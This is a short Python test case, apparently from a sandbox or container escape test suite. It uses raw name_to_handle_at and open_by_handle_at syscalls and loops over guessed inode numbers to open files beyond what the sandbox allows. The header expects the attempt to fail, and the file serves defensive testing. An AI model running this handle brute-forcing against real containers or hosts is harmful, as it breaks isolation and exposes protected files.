"""F32  Opens files by the number that the file system gave them, from outside of what it may see.
EXPECT wrong crashed
"""
import ctypes

import armed


def attack():
    armed.ran("F32")
    handle = (ctypes.c_uint32 * 34)(128, 0)
    mount = ctypes.c_int()
    armed.probe("name_to_handle_at", lambda: armed.call(303, ctypes.c_long(-100), b"/task/sub", ctypes.byref(handle), ctypes.byref(mount), ctypes.c_long(0))
                and armed.call(304, ctypes.c_long(-100), ctypes.byref(handle), ctypes.c_long(0)))
    for inode in range(2, 12):
        handle[0], handle[1], handle[2] = 8, 1, inode
        armed.probe(f"open inode {inode}", lambda: armed.call(304, ctypes.c_long(0), ctypes.byref(handle), ctypes.c_long(0)))
